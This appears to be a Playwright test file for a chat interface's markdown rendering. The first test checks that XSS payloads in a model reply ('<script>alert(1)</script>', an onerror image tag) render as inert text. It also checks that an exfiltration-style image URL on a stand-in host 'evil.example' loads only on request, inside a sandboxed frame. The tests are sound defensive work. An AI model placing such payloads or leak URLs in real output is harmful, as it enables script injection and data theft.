import { en } from "../../lib/i18n/messages/markdown";
import { zh } from "../../lib/i18n/messages/zh/markdown";
import { ChatPage } from "./pages/chat-page";
import { expect, test } from "./support/fixtures";

// Model output rendered by components/chat/markdown in the real chat page, against the simulator.
// `[[html]]` makes the simulator answer with hostile markup; `[[long:N]]` with N KB of varied
// markdown (code, tables, math, lists).

// A 1×1 transparent PNG, served for the remote image once the user asks for it.
const PNG = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
  "base64",
);

test("hostile markup in a reply is inert and a remote image loads only on request", async ({ page, t, locale }) => {
  const md = locale === "zh" ? zh : en;
  const dialogs: string[] = [];
  page.on("dialog", (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  const imageRequests: { url: string; referer: string | undefined }[] = [];
  await page.route("https://evil.example/**", (route) => {
    imageRequests.push({ url: route.request().url(), referer: route.request().headers().referer });
    return route.fulfill({ status: 200, contentType: "image/png", body: PNG });
  });

  const chat = new ChatPage(page, t);
  await chat.goto();
  await chat.ask("[[html]] Show me some markup");
  const reply = chat.lastReply();
  await chat.waitForStatus(reply, "complete");
  const content = chat.content(reply);

  await expect(content).toContainText("<script>alert(1)</script>");
  await expect(content).toContainText("<img src=x onerror=alert(1)>");
  await expect(content.locator("script, img, svg, iframe")).toHaveCount(0);
  await expect(content.locator("a")).toHaveCount(0);
  const handlers = await content.evaluate((root) =>
    [...root.querySelectorAll("*")]
      .flatMap((el) => [...el.attributes].map((a) => a.name))
      .filter((n) => n.startsWith("on")),
  );
  expect(handlers).toEqual([]);
  expect(imageRequests).toEqual([]);

  await content.getByRole("button", { name: md["markdown.image.load"].replace("{host}", "evil.example") }).click();
  // The page itself loads no remote image (its CSP forbids it): the one the user asked for is shown
  // by a sandboxed frame of its own.
  await expect(content.locator("img")).toHaveCount(0);
  const frame = content.frameLocator('[data-testid="remote-image"]');
  await expect(frame.locator("img")).toHaveAttribute("src", "https://evil.example/leak.png?q=secret");
  await expect.poll(() => imageRequests.length).toBe(1);
  // Sized to the image once it loaded.
  await expect(content.getByTestId("remote-image")).toHaveCSS("aspect-ratio", "1 / 1");
  expect(imageRequests[0]?.referer).toBeUndefined();
  expect(dialogs).toEqual([]);
});

test("a long reply renders tables, highlighted code with a copy button, and math", async ({ page, t, locale }) => {
  const md = locale === "zh" ? zh : en;
  const chat = new ChatPage(page, t);
  await chat.goto();
  // `[[rate:200]]`: the whole reply in about a second.
  await chat.ask("[[long:12]] [[rate:200]] Explain everything");
  const reply = chat.lastReply();
  await chat.waitForStatus(reply, "complete");
  const content = chat.content(reply);

  const table = content.locator("table").first();
  await expect(table).toBeVisible();
  expect(await table.evaluate((el) => getComputedStyle(el.parentElement!).overflowX)).toBe("auto");

  const code = content.getByTestId("code-block").first();
  await expect(code.getByTestId("code-language")).not.toBeEmpty();
  await expect(code.getByRole("button", { name: md["markdown.copyCode"], exact: true })).toBeVisible();
  // Highlighting and KaTeX load lazily after the blocks are final.
  await expect(content.locator("code[data-highlighted]").first()).toBeAttached({ timeout: 20_000 });
  // KaTeX renders formulas near the view: the first one, far above the end, once scrolled to.
  const formula = content.locator('[data-testid^="math-"]').first();
  await formula.scrollIntoViewIfNeeded();
  await expect(formula.locator(".katex")).toBeAttached({ timeout: 20_000 });
});

test("a long finished reply keeps only the part near the view on the page; copy still takes all of it", async ({
  page,
  t,
}) => {
  test.setTimeout(90_000);
  const chat = new ChatPage(page, t);
  await chat.goto();
  await chat.ask("[[long:60]] [[rate:1000]] The whole story, please");
  const reply = chat.lastReply();
  await chat.waitForStatus(reply, "complete", 60_000);
  const content = chat.content(reply);
  const heading = content.getByRole("heading", { name: "A long answer (60 KB)" });
  // The thread is at its end: the reply's start, thousands of pixels above, is an empty box of its height.
  const unmounted = content.locator('[data-segment="out"]');
  await expect.poll(() => unmounted.count()).toBeGreaterThan(0);
  await expect(heading).toHaveCount(0);
  // Scrolled to its start, that part is mounted again, and the part far below it is not.
  await content.evaluate((el) => el.scrollIntoView({ block: "start" }));
  await expect(heading).toBeVisible();
  await expect.poll(() => unmounted.count()).toBeGreaterThan(0);

  // Copy takes the stored markdown, not what is on the page.
  await page.evaluate(() => {
    const w = window as unknown as { __copied: string };
    w.__copied = "";
    navigator.clipboard.writeText = async (text: string) => {
      w.__copied = text;
    };
  });
  await chat.action(reply, "chat.actions.copy").click();
  const copied = await page.evaluate(() => (window as unknown as { __copied: string }).__copied);
  expect(copied.startsWith("# A long answer (60 KB)")).toBe(true);
  expect(copied.length).toBeGreaterThan(60_000);
});
